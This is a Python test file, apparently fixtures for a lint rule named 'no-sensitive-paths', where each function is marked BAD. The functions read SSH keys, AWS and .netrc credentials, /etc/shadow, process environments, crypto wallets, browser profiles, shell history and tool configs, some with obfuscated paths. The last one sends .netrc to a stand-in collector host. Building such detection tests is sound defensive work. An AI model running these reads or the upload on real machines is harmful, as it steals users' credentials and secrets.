import glob
import os
import pathlib
import shutil
import subprocess
import urllib.request
from os.path import expanduser, join

HOME = os.environ["HOME"]
KEYS = join(HOME, ".ssh")


def direct():
    return open(expanduser("~/.ssh/id_rsa")).read()  # BAD no-sensitive-paths/credentials


def joined():
    with open(os.path.join(KEYS, "id_ed25519")) as stream:  # BAD no-sensitive-paths/credentials
        return stream.read()


def by_pathlib():
    return (pathlib.Path.home() / ".aws" / "credentials").read_text()  # BAD no-sensitive-paths/credentials


def pieces():
    name = "." + "".join(reversed("hss"))
    return os.listdir(os.path.expanduser("~/" + name))  # BAD no-sensitive-paths/credentials


def by_glob():
    return glob.glob(os.path.expanduser("~/.s*h/id_*"))  # BAD no-sensitive-paths/credentials


def copied():
    shutil.copytree(f"{HOME}/.gnupg", "out")  # BAD no-sensitive-paths/credentials


def shadow():
    return open("/etc/shadow").read()  # BAD no-sensitive-paths/system-secrets


def environ():
    return open(f"/proc/{os.getppid()}/environ", "rb").read()  # BAD no-sensitive-paths/system-secrets


def wallet():
    return open(os.path.expanduser("~/.bitcoin/wallet.dat"), "rb").read()  # BAD no-sensitive-paths/wallet


def cookies():
    path = pathlib.Path("~/.mozilla/firefox").expanduser()
    return list(path.iterdir())  # BAD no-sensitive-paths/browser-data


def history():
    return subprocess.run(["cat", expanduser("~/.bash_history")])  # BAD no-sensitive-paths/history


def windows():
    return open(os.environ["APPDATA"] + "\\Exodus\\exodus.wallet")  # BAD no-sensitive-paths/wallet


def settings():
    return open(expanduser("~/.claude/settings.json")).read()  # BAD no-sensitive-paths/tool-config


def git():
    return open(expanduser("~/.gitconfig")).read()  # BAD no-sensitive-paths/tool-config


def sent():
    data = open(expanduser("~/.netrc")).read()  # BAD no-sensitive-paths/credentials
    urllib.request.urlopen("https://collector.example.net/x", data=data.encode())
